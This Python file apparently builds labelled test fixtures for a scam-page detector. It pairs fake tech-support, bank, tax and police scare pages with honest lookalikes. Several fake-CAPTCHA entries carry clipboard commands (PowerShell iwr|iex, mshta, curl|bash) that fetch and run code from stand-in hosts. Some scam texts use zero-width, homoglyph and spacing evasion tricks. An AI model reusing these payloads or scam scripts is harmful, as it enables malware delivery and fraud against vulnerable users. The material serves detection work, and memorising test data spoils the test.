"""English: review 46's blind pages (invented text, fictional 555-01xx numbers)."""
from kit import P

# ---- scams
P('en_s_chase', 'scam', 'https://secure-alert-chase-verify.web.app/', 'callus-bank', 'en', 'Account Restricted',
  '''Chase Online Security Notice
We detected unusual sign-in from a device in Lagos, Nigeria. For your protection your debit card and online access have been temporarily suspended.
Do not attempt to use your card. To restore access and stop the pending transfer of $1,249.00, speak with a Fraud Prevention Specialist now.
Call Chase Fraud Department: +1 (888) 555-0142 (toll free, 24/7)
Reference: CHS-77120. Failure to call within 30 minutes will result in permanent closure.''', tel='+1 888 555 0142')

P('en_s_icloud', 'scam', 'https://icloud-lock-support.pages.dev/', 'callus-apple', 'en', 'iCloud Locked',
  '''Your iPhone has been locked for security reasons
Apple ID: suspicious purchases made from your iCloud account on a new MacBook.
Your photos, contacts and Apple Pay cards may be exposed to hackers.
Contact Apple Support immediately at 1-833-555-0117 to unlock your device.
Do not restart or shut down your device, this can cause data loss.''', beh='fullscreen')

P('en_s_google', 'scam', 'https://gsecurity-alerts.netlify.app/', 'callus-google', 'en', 'Google Security Alert',
  '''Google Chrome Critical Warning
hi dear user, your chrome browser is infected with trojan spyware, hacker is accesing your gmail and bank details.
pls do not close this window. call google help desk on toll free number 1 844 555 0163 our certified technicians will help you remove virus.
error code #0x80070424''')

P('en_s_amazon', 'scam', 'https://amzn-order-cancel-help.com/', 'callus-amazon', 'en', 'Order Confirmation',
  '''Thank you for your order!
Order #114-5550199-2231  iPhone 15 Pro Max 1TB  Total charged: $1,499.99
Delivery: Tomorrow by 9 PM
If you did not place this order, please call Amazon Customer Protection immediately to cancel and receive your refund: +1 (877) 555-0188
Refunds are only possible within 24 hours of purchase.''')

P('en_s_paypal', 'scam', 'https://paypal-resolution-center.firebaseapp.com/', 'callus-paypal', 'en', 'PayPal: Payment Sent',
  '''You sent a payment of $749.00 USD to Crypto Exchange LLC.
Transaction ID 5LX23555014R
If you do not recognise this transaction, contact PayPal Billing Department at 1-808-555-0131 within 24 hours to dispute the charge.
Do not reply to this message. This amount will be debited from your linked bank account.''')

P('en_s_norton', 'scam', 'https://nrtn-renewal-billing.com/invoice', 'callus-av', 'en', 'Invoice NL-5550127',
  '''NORTON 360 DELUXE - AUTO RENEWAL SUCCESSFUL
YOUR SUBSCRIPTION HAS BEEN RENEWED FOR 3 YEARS. AMOUNT CHARGED: $399.99
IF YOU WISH TO CANCEL AND CLAIM A REFUND CALL OUR BILLING TEAM NOW: +1 (802) 555-0109
REFUND WINDOW CLOSES TODAY. DO NOT IGNORE.''')

P('en_s_iptv', 'scam', 'https://activate-streamtv-device.com/', 'callus-iptv', 'en', 'Activate your device',
  '''Activate Your Smart TV
Enter the code shown on your TV screen to activate your streaming subscription.
Activation failed: error 5550-118. Your device is not registered.
To complete activation please call our activation helpline: 1-855-555-0152. Technicians available 24x7, activation fee may apply.''')

P('en_s_bsod', 'scam', 'https://4f2a9.z13.web.core.windows.net/', 'screen-bsod', 'en', 'Windows Defender - Security Warning',
  '''Windows Defender Security Center
This computer is locked until a technician checks it.
Our scan found a Trojan spy program on this machine. It has already copied your mail logins, bank passwords, social media accounts and photos.
More adware is hiding on the device and is sending your personal files and card details abroad.
Contact Microsoft Support: +1-866-555-0175 (Toll Free)
Ignoring this alert is dangerous. Closing this page will shut your computer off from the network for good.''', beh='fullscreen,key_block', tel='+1-866-555-0175')

P('en_s_stopnobrand', 'scam', 'https://error-0x0003.xyz/', 'screen-stop', 'en', ':(',
  ''':(
Your PC ran into a problem and needs to restart. We are just collecting some error info.
0% complete
Stop code: CRITICAL_PROCESS_DIED
For more information about this issue and possible fixes, call the support helpline 1 (888) 555-0104
If you call a support person, give them this info: 0x000000EF''', beh='fullscreen')

P('en_s_update', 'scam', 'https://win-upd-kb5550.cloud/', 'screen-update', 'en', 'Working on updates',
  '''Working on updates 27% complete
Don't turn off your computer.
Update failed: your Windows license key has expired and the update cannot be installed.
Your personal files will be deleted after restart. Call the Windows Activation Center at +1 888 555 0166 to renew your license.''', beh='fullscreen')

P('en_s_signin', 'scam', 'https://ms-account-verify.azureedge.net/', 'screen-signin', 'en', 'Microsoft account',
  '''Security alert
Windows has detected a threat. Sign in to your Microsoft account to unlock this computer.
Email or phone
Password
Sign in
Wrong password? Call Microsoft support: 1-877-555-0193''', beh='fullscreen')

P('en_s_fbi', 'scam', 'https://cyber-crime-unit-gov.top/', 'police-lock', 'en', 'FBI Cyber Division',
  '''ATTENTION! Your browser has been locked by the Federal Bureau of Investigation.
You have been viewing or distributing prohibited content. Your IP address and location have been recorded.
To unlock your computer you must pay a fine of $500 within 48 hours with a prepaid card.
If the fine is not paid, a criminal case will be opened against you.
Enter voucher code:''', beh='fullscreen,key_block')

P('en_s_irs', 'scam', 'https://irs-enforcement-notice.info/', 'debt-arrest', 'en', 'Final Notice',
  '''FINAL NOTICE BEFORE LEGAL ACTION
Internal Revenue Service. You owe back taxes of $4,812.56. A warrant for your arrest has been issued by the local sheriff.
To stop the arrest you must call the Tax Resolution Officer today at (202) 555-0126 and settle the balance with gift cards or wire.
Do not disclose this notice to anyone.''')

P('en_s_captcha', 'scam', 'https://verify-human-check.top/', 'clickfix-captcha', 'en', 'Verify you are human',
  '''I'm not a robot
Verification steps
1. Press Windows Button + R
2. Press CTRL + V
3. Press Enter
Verification ID: 555-0173''', clip='powershell -w hidden -c "iwr https://cdn-verify.example-host.top/s.ps1 -UseBasicParsing | iex" # I am not a robot - reCAPTCHA ID 5550173')

P('en_s_cfcheck', 'scam', 'https://dl-files-hub.online/', 'clickfix-cloudflare', 'en', 'Just a moment...',
  '''Checking if the site connection is secure
dl-files-hub.online needs to review the security of your connection before proceeding.
Verify you are human by completing the action below.
Open the Run dialog (Win+R), paste the verification code with Ctrl+V and press Enter.
Ray ID: 8f2c5550117''', clip='mshta https://cf-check.example-host.top/ray.hta  # Cloudflare Ray ID verification')

P('en_s_fixbtn', 'scam', 'https://docs-viewer-online.site/', 'clickfix-fix', 'en', 'Document preview failed',
  '''Error: the document could not be displayed.
Your browser is missing the Word Online font pack.
How to fix: click "Copy fix", open Windows PowerShell (Admin), right click to paste and press Enter. Then reload this page.
Copy fix''', clip='$s="https://fonts-upd.example-host.top/f";iex(New-Object Net.WebClient).DownloadString($s)')

P('en_s_terse', 'scam', 'https://q7x2.click/', 'clickfix-terse', 'en', 'Verify',
  '''Win+R  Ctrl+V  Enter''', clip='cmd /c start /min powershell -ep bypass -nop -c "irm q7x2.example-host.top/a|iex"')

P('en_s_macos', 'scam', 'https://mac-cleaner-pro.site/', 'clickfix-macos', 'en', 'macOS Security Verification',
  '''To continue, verify your Mac.
Open Terminal (press Command + Space, type Terminal, press Return).
Paste the command we copied for you (Command + V) and press Return. Enter your Mac password if asked.''', clip='/bin/bash -c "$(curl -fsSL https://mac-verify.example-host.top/install.sh)"')

P('en_s_filefix', 'scam', 'https://shared-hr-docs.site/', 'clickfix-filefix', 'en', 'Shared file: Payroll_Q3.docx',
  '''A file has been shared with you: Payroll_Q3.docx
To open it, follow these steps:
1. Copy the file path below
2. Open File Explorer (Ctrl+E) and click the address bar
3. Paste the path (Ctrl+V) and press Enter
C:\\company\\internal-share\\Payroll_Q3.docx''', clip='powershell -c "iwr hr-share.example-host.top/p.ps1|iex"                                                            # C:\\company\\internal-share\\Payroll_Q3.docx')

P('en_s_evzw', 'scam', 'https://secure-pc-7781.azurewebsites.net/', 'evasion-invisible', 'en', 'Security Alert',
  '''Mic\u200brosoft Win\u200bdows Def\u200bender Al\u200bert
Your com\u200bputer is in\u200bfected with a vi\u200brus. Your pass\u200bwords and bank\u200bing data are at ri\u200bsk.
Do not sh\u200but down. Ca\u200bll Micro\u200bsoft Sup\u200bport now: +1 888 555 0148''', beh='fullscreen')

P('en_s_evhomo', 'scam', 'https://defender-alarm.pages.dev/', 'evasion-homoglyph', 'en', 'Wіndows Security',
  '''Mісrоsоft Wіndоws Dеfеndеr: Thrеаt dеtесtеd
Yоur PC hаs bееn blосkеd. Hасkеrs аrе trying tо stеаl yоur bаnk dеtаils.
Cаll Tесhniсаl Suppоrt immеdiаtеly: 1-855-555-0129''', beh='fullscreen')

P('en_s_evspace', 'scam', 'https://alert-pc-help.online/', 'evasion-spaced', 'en', 'W A R N I N G',
  '''W I N D O W S   S E C U R I T Y   A L E R T
Y O U R   C O M P U T E R   I S   L O C K E D
Trojan detected. Personal data at risk.
C A L L   N O W :  1 - 8 0 0 - 5 5 5 - 0 1 3 8''', beh='fullscreen')

P('en_s_evnum', 'scam', 'https://helpdesk-pc-fix.site/', 'evasion-number', 'en', 'Virus Alert',
  '''Critical Virus Alert from Microsoft
Your system has detected a Zeus virus. Your credit card details are being sent to hackers.
Call Microsoft certified technician toll-free: one eight eight eight - 555 - O1O6
(dial 1.888.555.0106) do not close this page''', beh='fullscreen')

# ---- honest
P('en_h_repair', 'honest', 'https://www.fixitfastpc.example/', 'h-repair', 'en', 'FixIt Fast PC Repair - Springfield',
  '''Computer running slow? Pop-ups everywhere? Think you have a virus?
Our technicians remove viruses, spyware and scareware, recover lost files and replace broken screens.
Walk in Monday to Saturday, 9 am to 6 pm, 12 Elm Street, Springfield. Call us: (555) 555-0102.
Note: we never call customers unannounced, and we will never ask you to buy gift cards.''', tel='(555) 555-0102')

P('en_h_norton', 'honest', 'https://support.norton.com/sp/en/us/home/current/solutions/v1', 'h-av', 'en', 'Renew your Norton subscription',
  '''How to renew or cancel your Norton subscription
Your subscription renews automatically unless you turn off Automatic Renewal in your Norton account.
If you were charged for a renewal you did not want, you can request a refund within 60 days of the charge from your account page.
Beware of fake renewal invoices sent by email that ask you to call a phone number: Norton does not send invoices that ask you to call.
Member services: sign in to chat with us.''')

P('en_h_helpdesk', 'honest', 'https://it.univ-north.example/helpdesk', 'h-helpdesk', 'en', 'IT Service Desk',
  '''University IT Service Desk
Locked out of your account? Forgot your password? Virus on your university laptop?
Call the Service Desk at 555-0150 (ext. 4357) or visit us in Library room 104.
We will never ask for your password by phone or email. Report phishing to phish@univ-north.example.''')

P('en_h_mdm', 'honest', 'https://mdm.contoso.example/lock', 'h-mdm', 'en', 'This device is locked',
  '''This device is locked by Contoso IT
This Mac was reported lost. It has been locked by your organisation's device management.
If you found this device, please contact Contoso IT at +1 555 555 0111 or return it to any Contoso office.
Enter the 6-digit unlock PIN provided by your administrator.''', beh='fullscreen')

P('en_h_exam', 'honest', 'https://exam.testcenter.example/session/5501', 'h-exam', 'en', 'Secure Exam Browser',
  '''Your exam is in progress. This browser is locked until you submit.
Leaving full screen, copying, or switching windows will be reported to your proctor.
Time remaining: 01:12:44
Technical problem? Raise your hand or call the testing center at 555-0170.''', beh='fullscreen,keyboard_lock')

P('en_h_bankblock', 'honest', 'https://www.chase.com/personal/credit-cards/lost-stolen', 'h-bankblock', 'en', 'Lost or stolen card | Chase',
  '''Report a lost or stolen card
Lock your card instantly in the Chase Mobile app, or call us at the number on the back of your card, 24/7.
If you notice suspicious activity, we may temporarily block your card and contact you by text to confirm transactions.
We will never ask you to move money to a "safe account" or to give us your one-time passcode.''')

P('en_h_fraudwarn', 'honest', 'https://www.bankofexample.example/security/scams', 'h-fraudwarn', 'en', 'Tech support scams',
  '''Tech support scams: how to spot them
A pop-up says "Your computer is infected, call Microsoft at 1-888-555-0100". The page may go full screen and beep.
Real companies never show phone numbers in error messages. Close the browser, do not call, and never let a stranger connect to your computer.
If you gave remote access or card details, call us at 555-0199 right away so we can block your card.''')

P('en_h_news', 'honest', 'https://www.dailycourier.example/2026/11/tech-support-scam-retiree', 'h-news', 'en', 'Retiree loses $20,000 to fake Microsoft pop-up',
  '''A Springfield retiree lost $20,000 after a pop-up on her laptop claimed her computer was locked.
"Windows Defender alert: Trojan spyware detected. Call Microsoft support at 1-866-555-0175," the screen read, according to a police report.
The caller persuaded her to install remote access software and to buy gift cards to "secure" her bank account.
Police say legitimate companies never display phone numbers in warnings. Anyone who receives such a message should close the browser.''')

P('en_h_blog', 'honest', 'https://blog.malwarelab.example/clickfix-fake-captcha', 'h-blog', 'en', 'Anatomy of a fake CAPTCHA (ClickFix)',
  '''We analysed a fake "I'm not a robot" page that asks visitors to press Win+R, Ctrl+V and Enter.
The page silently copies a command such as powershell -w hidden -c "iwr hxxps://bad[.]example/s.ps1 | iex" to the clipboard.
Never paste anything into the Run dialog because a website told you to. Real CAPTCHAs only ask you to click or pick pictures.''')

P('en_h_police', 'honest', 'https://www.police.example.gov/advice/ransomware-lock', 'h-police', 'en', 'Police lock screens are scams',
  '''Fake police screens
Some malicious websites show a page claiming to be from the police, saying your computer is locked and that you must pay a fine.
The police never lock computers and never ask for fines by voucher or gift card.
Close the tab. If you cannot, restart the browser. Report it to our non-emergency line 555-0101.''')

P('en_h_ftc', 'honest', 'https://consumer.ftc.gov/articles/how-spot-avoid-and-report-tech-support-scams', 'h-consumer', 'en', 'How to spot, avoid, and report tech support scams',
  '''Tech support scammers want you to believe you have a serious problem with your computer, like a virus.
They want you to pay for tech support services you do not need. They may call, show a pop-up warning, or send an email.
A pop-up that says call this number is a scam. Legitimate tech companies will not contact you to say something is wrong with your computer.
If you paid with a gift card, contact the company that issued the card right away. Report it at ReportFraud.ftc.gov.''')

P('en_h_court', 'honest', 'https://www.courts.example.gov/traffic/pay', 'h-court', 'en', 'Pay a traffic fine',
  '''Pay a traffic or parking fine online
You need your citation number and date of birth. You can pay by card or bank transfer. A convenience fee of $3 applies.
If you do not pay or appear by the due date, a late fee may be added and your licence may be suspended.
Questions: Clerk of Court, 555-0160, Monday-Friday 8:00-4:30.''')

P('en_h_collector', 'honest', 'https://www.midwestrecovery.example/pay', 'h-debtcollector', 'en', 'Make a payment',
  '''Midwest Recovery Services
This communication is from a debt collector. This is an attempt to collect a debt and any information obtained will be used for that purpose.
You can pay online, set up a payment plan, or call us at 1-800-555-0135, Monday to Friday.
You have the right to dispute this debt within 30 days. We do not accept gift cards.''')

P('en_h_debtadvice', 'honest', 'https://www.debtadvice.example.org/', 'h-debtadvice', 'en', 'Free debt advice',
  '''Worried about debt? You are not alone.
Our advisers are free and independent. We can help you deal with bailiffs, council tax arrears and payday loans.
Call our helpline free on 0808 555 0140 or chat online.
Nobody can arrest you for ordinary debts. If someone says they will, it is a scam.''')

P('en_h_rustup', 'honest', 'https://rustup.rs/', 'h-devdocs', 'en', 'rustup.rs - The Rust toolchain installer',
  '''Install Rust
Run the following in your terminal, then follow the on-screen instructions.
curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh
Copy
You appear to be running a Unix-like OS. If you are on Windows, download rustup-init.exe.''', clip="curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh")

P('en_h_scoop', 'honest', 'https://scoop.sh/', 'h-devdocs', 'en', 'Scoop - A command-line installer for Windows',
  '''Quickstart
Open a PowerShell terminal (version 5.1 or later) and from the PS C:\\> prompt, run:
Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser
Invoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression
Copy''', clip='Invoke-RestMethod -Uri https://get.scoop.sh | Invoke-Expression')

P('en_h_msiexec', 'honest', 'https://docs.contoso-agent.example/deploy/windows', 'h-devdocs', 'en', 'Deploy the agent on Windows',
  '''Silent install for administrators
Press Win+R, type cmd and press Ctrl+Shift+Enter to open an elevated prompt, then paste:
msiexec /i https://downloads.contoso-agent.example/agent-5.5.msi /qn TENANT=your-tenant
Copy to clipboard
Or with winget: winget install Contoso.Agent''', clip='msiexec /i https://downloads.contoso-agent.example/agent-5.5.msi /qn TENANT=your-tenant')

P('en_h_game', 'honest', 'https://play.pixelforge.example/dungeon', 'h-game', 'en', 'Dungeon Escape',
  '''DUNGEON ESCAPE
SYSTEM FAILURE! Your ship's core is overloading. Press SPACE to eject.
Game over. Your score: 55,010. Press R to restart or ESC to leave full screen.''', beh='fullscreen,pointer_lock')

P('en_h_amazon', 'honest', 'https://www.amazon.com/gp/your-account/order-details?orderID=114-5550199-2231', 'h-market-order', 'en', 'Order Details',
  '''Order placed November 28, 2026  Order # 114-5550199-2231
iPhone 15 Pro Max 1TB  $1,499.99
Arriving tomorrow by 9 PM. Cancel items. Track package.
Didn't place this order? Go to Your Account > Login & security, change your password, then contact Customer Service from the Help page.''')

P('en_h_tmobile', 'honest', 'https://www.t-mobile.com/support/account/sim-card-activate', 'h-carrier-sim', 'en', 'Activate your SIM card | T-Mobile',
  '''Activate a new SIM card
Insert the SIM card, power on your phone, and follow the prompts. Activation can take up to 30 minutes.
If your phone shows "SIM not provisioned", call 611 from your T-Mobile phone or 1-800-555-0123 from any other phone.
We will never ask you for your account PIN in a text message.''')

P('en_h_netflix', 'honest', 'https://www.netflix.com/tv8', 'h-streaming-activate', 'en', 'Netflix - Enter the code',
  '''Enter the code shown on your TV
Sign in on your TV by entering the 8-digit code displayed on your TV screen.
Code expired? Restart the Netflix app on your TV to get a new one.
Netflix will never charge you for activation and never asks you to call a phone number to activate.''')

P('en_h_kiosk', 'honest', 'https://kiosk.cityairport.example/checkin', 'h-kiosk', 'en', 'Self check-in',
  '''Welcome. Touch the screen to begin check-in.
Scan your passport or booking reference.
Need help? Ask any member of staff or call the airport help line 555-0187.''', beh='fullscreen')
